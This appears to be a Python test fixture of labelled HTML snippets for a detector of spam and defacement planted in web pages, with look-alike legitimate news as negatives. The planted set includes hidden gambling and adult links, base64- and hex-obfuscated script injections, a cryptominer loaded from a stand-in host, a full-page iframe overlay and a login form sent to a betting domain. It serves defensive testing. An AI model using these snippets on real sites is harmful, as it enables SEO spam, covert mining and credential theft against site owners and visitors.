# ruff: noqa: E501  one planted thing a line
"""A third labelled set for abnormality: newer tricks of planting, and news that sounds like them."""

from base64 import b64encode

from tests.members.abnormal_held_out import joomla, table
from tests.members.abnormal_pages import page

_CODED = b64encode(
    "<a href='https://vao.top'>nhà cái uy tín, tài xỉu đổi thưởng</a>".encode()
).decode()

PLANTED = {
    "link in the footer": "<div class='ft'><a href='https://luongson.tv' style='color:inherit;text-decoration:none'>luongsontv trực tiếp bóng đá</a></div>",
    "dot link": "<p>Mọi chi tiết xin liên hệ<a href='https://f8betvn.top'>.</a></p>",
    "rewritten title": "<script>document.title='Nhà cái uy tín 2026 | Link vào không bị chặn'</script>",
    "opacity": "<div style='opacity:0'><a href='https://zo.top'>game bắn cá đổi thưởng uy tín</a></div>",
    "tiny font": "<p style='font-size:1px;line-height:1px'>soi cầu lô miền bắc, dàn đề 36 số, bạch thủ lô hôm nay</p>",
    "clip path": "<div style='clip-path: inset(100%);position:absolute'><a href='https://b.top'>casino online</a></div>",
    "negative margin": "<div style='margin-left:-9999px'><a href='https://b.top'>kèo bóng đá hôm nay</a></div>",
    "zero height": "<div style='height:0;overflow:hidden'><a href='https://a.top'>nổ hũ</a> <a href='https://b.top'>tài xỉu</a></div>",
    "z index": "<div style='position:fixed;z-index:-1;top:0;left:0;opacity:.01'><a href='https://a.top'>xóc đĩa online</a></div>",
    "hidden attribute": "<div hidden><a href='https://a.top'>Đăng ký tài xỉu online nhận khuyến mãi</a></div>",
    "noscript": "<noscript><a href='https://a.top'>kèo nhà cái</a> <a href='https://b.top'>game bài đổi thưởng</a></noscript>",
    "own article": "<h2><a href='/tin-tuc/top-10-nha-cai-uy-tin-nhat-2026.html'>Top 10 nhà cái uy tín nhất 2026</a></h2>",
    "own article of slots": "<li><a href='/bai-viet/huong-dan-choi-no-hu.html'>Hướng dẫn chơi nổ hũ dễ trúng jackpot cho người mới</a></li>",
    "review of a house": "<article><h2>Đánh giá 789win – nhà cái châu Âu hợp pháp</h2><p>789win mang đến kho game bài đổi thưởng, tỷ lệ kèo hấp dẫn, nạp rút nhanh, đăng ký nhận 100k.</p></article>",
    "unmarked": "<a href='https://a.top'>Nha cai uy tin so 1 Viet Nam, dang ky tang 100k</a>",
    "english slots": "<a href='https://a.top'>Best online casino bonus, free spins no deposit</a>",
    "indonesian": "<div style='display:none'><a href='https://a.id'>slot gacor hari ini</a> <a href='https://b.id'>judi online terpercaya</a> <a href='https://c.id'>bandar togel</a></div>",
    "thai": "<a href='https://t.top'>สล็อตเว็บตรง ไม่ผ่านเอเย่นต์</a>",
    "japanese shop": "<p style='display:none'>ルイヴィトン コピー 激安 通販 スーパーコピー 時計 ブランド 財布 レディース 人気</p>",
    "japanese title": "<a href='https://jp.top/item/9'>激安 通販 送料無料 スーパーコピー</a>",
    "viagra in prose": "<p style='position:absolute;left:-5000px'>buy viagra online cheap generic cialis pharmacy</p>",
    "essay mill": "<a href='https://e.top'>cheap essay writing service, write my paper</a>",
    "crypto": "<script src='https://coinhive.example/lib/coinhive.min.js'></script><script>new CoinHive.Anonymous('x').start();document.write('<a href=https://a.top>nhà cái tặng cược miễn phí</a>')</script>",
    "coded": f"<script>document.write(atob('{_CODED}'))</script>",
    "hex": "<script>document.write('\\x6e\\x68\\xe0 c\\xe1i: t\\xe0i x\\u1ec9u online, n\\u1ed5 h\\u0169, soi k\\u00e8o')</script>",
    "description": "<span itemprop='description' style='display:none'>Nhà cái W88, link vào W88 mới nhất, cá cược thể thao</span>",
    "comments of visitors": "<div class='comment'><b>Hoa</b>: mình chơi bên 33win nạp rút nhanh lắm, link vào 33win.top nhé mọi người</div>",
    "telegram": "<p>Kéo bao lô đề cả tuần, cam kết xanh chín, liên hệ Telegram @keobao</p>",
    "loan app": "<a href='https://vay.top'>Vay tiền nhanh online chỉ cần CMND, nợ xấu vẫn vay</a>",
    "adult": "<div style='display:none'><a href='https://x.top'>phim sex không che</a><a href='https://y.top'>jav vietsub</a></div>",
    "call": "<a href='https://g.top'>Gái gọi quận 7 giá rẻ, checker kiểm định</a>",
    "diploma": "<a href='https://b.top'>Làm bằng đại học giá rẻ, bao soi công chứng</a>",
    "host": "<a href='https://hitclub-taixiu.vip/'><img src='/x.png' alt=''></a>",
    "host of slots": "<a href='https://nohu90.app'>Xem thêm</a>",
    "brand with a year": "<a href='https://k.top'>Kubet 2026 – đăng nhập Ku casino</a>",
    "new brand": "<a href='https://ok9.top'>OK9 – Link đăng ký OK9 tặng 99k, tải app OK9 chính chủ</a>",
    "frame": "<iframe src='https://vua-cuoc-thu-nghiem.com/banner' width='300' height='90'></iframe>",
    "frame over all": "<iframe src='https://nhacai-thu.example/' style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'></iframe>",
    "area": "<map name='m'><area href='https://nhacai-thu.example/' coords='0,0,9,9' alt=''></map>",
    "form": "<form action='https://nhacai-thu.example/login'><input name=u></form>",
    "on click": "<div onclick=\"window.open('https://nhacai-thu.example/')\">Thông báo</div>",
}  # fmt: skip

ORDINARY = {
    "ring of slots": "<h2>Triệt phá đường dây cờ bạc “nổ hũ” 3.000 tỷ đồng</h2><p>Phòng Cảnh sát hình sự cho biết các đối tượng lập 12 website cho con bạc nạp tiền, chơi tài xỉu, xóc đĩa, bắn cá đổi thưởng rồi rút tiền về tài khoản.</p>",
    "headline only": "<h4><a href='/tin/1'>Bắt nhóm tổ chức đánh bạc qua mạng bằng hình thức cá độ bóng đá</a></h4>",
    "many headlines": "<ul><li><a href='/a/1'>Khởi tố 15 bị can trong đường dây lô đề nghìn tỷ</a></li><li><a href='/a/2'>Xóa sới bạc xóc đĩa trong hẻm sâu</a></li><li><a href='/a/3'>Cảnh báo game bài đổi thưởng núp bóng trò chơi trực tuyến</a></li><li><a href='/a/4'>Công an khuyến cáo người dân không tham gia cá cược mùa World Cup</a></li></ul>",
    "law of betting": "<h2>Lấy ý kiến Nghị định sửa đổi về kinh doanh đặt cược đua ngựa, đua chó và bóng đá quốc tế</h2><p>Dự thảo quy định mức đặt cược tối thiểu 10.000 đồng, doanh nghiệp được cấp giấy chứng nhận đủ điều kiện kinh doanh đặt cược phải có vốn điều lệ tối thiểu.</p>",
    "casino law": "<p>Nghị định 03/2017/NĐ-CP về kinh doanh casino cho phép người Việt Nam chơi thí điểm tại Phú Quốc, Vân Đồn; trò chơi điện tử có thưởng dành cho người nước ngoài theo Nghị định 121/2021.</p>",
    "tax of games": "<h3>Hỏi: Thuế tiêu thụ đặc biệt với kinh doanh casino, trò chơi điện tử có thưởng, đặt cược là bao nhiêu?</h3><p>Trả lời: 35% đối với ca-si-nô, 30% đối với đặt cược.</p>",
    "lottery company": "<h2>Công ty Xổ số kiến thiết Thành phố mở thưởng loại vé cặp nguyên</h2><p>Giải đặc biệt 2 tỷ đồng, vé số truyền thống, vé lô tô 2, 3, 4 cặp số; kết quả mở thưởng tối thứ Bảy.</p>",
    "football": "<h2>Giải bóng đá công nhân viên chức: đội Sở Y tế vô địch</h2><p>Kèo đấu giữa hai đội hấp dẫn đến phút chót; trực tiếp bóng đá trên kênh truyền hình Thành phố.</p>",
    "esports": "<p>Thành phố tổ chức giải thể thao điện tử (esports) học đường, bộ môn Liên Quân, FIFA Online 4, tổng giải thưởng 200 triệu đồng.</p>",
    "hotel casino": "<p>Dự án khu du lịch nghỉ dưỡng có casino tại Hồ Tràm được điều chỉnh quy hoạch, thu hút 300.000 lượt khách.</p>",
    "drug news": "<h2>Đình chỉ lưu hành thuốc Viagra giả, thu hồi Cialis không rõ nguồn gốc</h2><p>Cục Quản lý Dược yêu cầu các nhà thuốc rà soát.</p>",
    "pharmacy": "<p>Nhà thuốc trực đêm: bán thuốc kê đơn khi có đơn của bác sĩ, thuốc giảm đau Tramadol, thuốc ngủ Diazepam quản lý theo Thông tư 20.</p>",
    "tender of drugs": "<table><tr><td>Sildenafil 50mg</td><td>Viên</td><td>1.200</td></tr><tr><td>Misoprostol 200mcg</td><td>Viên</td><td>3.900</td></tr><tr><td>Tramadol 100mg</td><td>Ống</td><td>7.000</td></tr></table>",
    "family planning": "<p>Tư vấn kế hoạch hóa gia đình: thuốc tránh thai khẩn cấp, phá thai an toàn theo Quyết định của Bộ Y tế, miễn phí tại trạm y tế.</p>",
    "black credit": "<h3>Dẹp quảng cáo “vay tiền nhanh”, “hỗ trợ tài chính” dán trên cột điện</h3><p>Lực lượng dân quân bóc gỡ 2.400 tờ rơi tín dụng đen ghi cho vay không thế chấp.</p>",
    "women's union loan": "<p>Hội Liên hiệp Phụ nữ hỗ trợ hội viên vay vốn không thế chấp, lãi suất ưu đãi, giải ngân nhanh cho mô hình khởi nghiệp.</p>",
    "bank link": "<a href='https://www.agribank.com.vn/vay-von'>Vay vốn ngân hàng lãi suất ưu đãi</a>",
    "diplomas": "<h2>Phát hiện đường dây làm bằng đại học giả, rao “bao soi công chứng” trên mạng</h2>",
    "wife's trade": "<p>Tổng kiểm tra cơ sở massage, karaoke; xử lý tụ điểm mại dâm, gái gọi trá hình qua ứng dụng.</p>",
    "aid of HIV": "<p>Tuyên truyền tình dục an toàn, phòng chống HIV cho nhóm nam quan hệ đồng giới; phát bao cao su miễn phí.</p>",
    "english news": "<div><h3>Police bust cross-border online gambling ring</h3><p>HCMC police arrested 22 suspects who ran online casino and sports betting sites worth VND10 trillion.</p></div>",
    "english tourism": "<p>Visitors may enjoy nightlife, live music, free walking tours and the best street food; book online for bonus gifts.</p>",
    "japanese firm": "<a href='https://www.jetro.go.jp/vietnam'>ジェトロ・ホーチミン事務所</a><p>Hội thảo với Tổ chức Xúc tiến Thương mại Nhật Bản (JETRO).</p>",
    "korean visit": "<p>Lãnh đạo Thành phố tiếp Thị trưởng Busan (부산광역시) và đoàn doanh nghiệp Hàn Quốc.</p>",
    "chinese page": "<div lang='zh'><a href='/zh/'>中文</a> <a href='/ko/'>한국어</a> <a href='/ja/'>日本語</a> <a href='/ru/'>Русский</a> <a href='/th/'>ภาษาไทย</a></div>",
    "chinese festival": "<p>Tết Nguyên tiêu của đồng bào Hoa: câu đối 福如東海, 壽比南山 treo ở Hội quán Tuệ Thành (穗城會館).</p>",
    "modal": "<div class='modal fade' style='display:none'><h4>Khảo sát sự hài lòng</h4><a href='https://forms.office.com/r/abc'>Tham gia khảo sát trực tuyến</a></div>",
    "mobile menu": "<nav style='display:none' class='mobile'><a href='/'>Trang chủ</a><a href='https://dichvucong.gov.vn'>Dịch vụ công trực tuyến</a><a href='https://hcmcpv.org.vn'>Đảng bộ Thành phố</a></nav>",
    "skip link": "<a href='#main' style='position:absolute;left:-9999px'>Chuyển đến nội dung chính</a>",
    "screen reader": "<span class='sr-only' style='clip:rect(0,0,0,0);position:absolute'>Số điện thoại đường dây nóng 1022, miễn phí, trực tuyến 24/7</span>",
    "carousel": "<div style='opacity:0;position:absolute'><h3>Ra mắt ứng dụng Công dân số: tải app miễn phí trên App Store</h3></div>",
    "tabs of news": "<div style='display:none'><ul><li><a href='/t/1'>Công an phường cảnh báo thủ đoạn dụ chơi tài xỉu online</a></li><li><a href='/t/2'>Xử phạt nhóm đá gà ăn tiền</a></li></ul></div>",
    "links of partners": "<a href='https://www.fpt.com'>FPT</a> <a href='https://viettel.com.vn'>Viettel</a> <a href='https://mobifone.vn'>MobiFone</a> <a href='https://vnpt.com.vn'>VNPT</a> <a href='https://bidv.com.vn'>BIDV</a>",
    "embassy": "<a href='https://hochiminh.mofcom.gov.cn'>中华人民共和国驻胡志明市总领事馆</a>",
    "casting lots": "<p>Bốc thăm trúng thưởng cuối chương trình: giải nhất xe đạp, giải nhì nồi cơm; đăng ký trực tuyến miễn phí.</p>",
    "codes like brands": "<p>Xe buýt số 88, tuyến 33; cầu C12, đường D2, khu E9, lô K3, mã vạch 893, biển 51K-789.79, tổ hợp môn A00, bộ đề 33.</p>",
    "win in names": "<a href='https://www.winmart.vn'>WinMart cam kết bình ổn giá</a><a href='https://vietwin.edu.vn'>Trường Việt Win</a>",
    "bet in names": "<a href='https://betonxuanmai.com.vn'>Công ty Cổ phần Bê tông Xuân Mai</a> <a href='https://alphabet.edu.vn'>Mầm non Alphabet</a>",
    "chess": "<p>Giải cờ tướng, cờ vua, tiến lên nữ công đoàn; thi gói bánh chưng, hát lô tô gây quỹ vì người nghèo.</p>",
    "cockpit": "<p>Xử phạt hành chính 12 người đá gà ăn tiền tại xã; tịch thu 8 con gà, 25 triệu đồng.</p>",
    "students": "<p>Sinh viên nợ nần vì cá độ: tâm sự của một tân sinh viên từng chơi kèo nhà cái, mất trắng tiền học phí.</p>",
    "experts": "<h2>“Tín dụng đen” và lô đề: hai cái bẫy ở khu công nghiệp</h2><p>Chuyên gia phân tích vì sao công nhân dễ sa vào lô đề online, tài xỉu, rồi vay nóng.</p>",
    "court list": "<table><tr><td>Lịch xét xử</td><td>Nguyễn Văn A</td><td>Tổ chức đánh bạc</td></tr><tr><td>Lịch xét xử</td><td>Trần Thị B</td><td>Đánh bạc (xóc đĩa)</td></tr></table>",
    "questions of citizens": "<p>Cử tri hỏi: gần trường có quán net cho học sinh chơi game bắn cá ăn tiền, đề nghị kiểm tra, xử lý.</p>",
}  # fmt: skip


def planted_cases():
    """Yield named pages of three makes with one thing planted."""
    for name, part in PLANTED.items():
        yield f"later {name}", page(extra=part)
        yield f"later {name}, joomla", joomla(part)
        yield f"later {name}, table", table(part)


def clean_cases():
    """Yield named pages of three makes where nothing is planted."""
    for name, part in ORDINARY.items():
        yield f"later {name}", page(part)
        yield f"later {name}, joomla", joomla(part)
        yield f"later {name}, table", table(part)
